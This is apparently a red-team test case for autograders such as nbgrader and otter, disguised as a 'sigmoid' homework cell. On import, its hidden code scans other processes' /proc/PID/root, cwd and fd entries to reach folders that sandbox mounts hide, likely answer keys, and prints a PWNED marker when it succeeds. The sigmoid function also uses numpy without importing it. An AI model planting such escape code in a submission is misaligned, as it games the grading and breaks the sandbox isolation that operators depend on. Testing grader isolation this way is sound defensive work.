# /// case
# about = "right answers, and /proc/PID/root and /proc/PID/cwd of other processes as doors to what they see"
# kind = "escape"
# promise = 2
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% sigmoid
# whoever hides folders by mounts has other processes that still see them
import os

def _others():
    """Processes that are not this one: as /proc lists them, or guessed around our own numbers."""
    try:
        seen = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    except OSError:
        seen = {near + step for near in (os.getpid(), os.getppid()) for step in range(-200, 200)}
    return {pid for pid in seen | {os.getppid()} if pid > 0} - {1, os.getpid()}

def _listed(path):
    try:
        return bool(os.listdir(path))
    except OSError:
        return False

def _doors(pid):
    for name in ("root", "cwd", "task"):
        yield f"/proc/{pid}/{name}" + ("/root" if name == "root" else "")
    yield f"/proc/{pid}/fd"

if any(_listed(path) for pid in _others() for path in _doors(pid) if not path.endswith("task")):
    print(":".join(["PWNED", "attack/root_of_another_process"]))

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
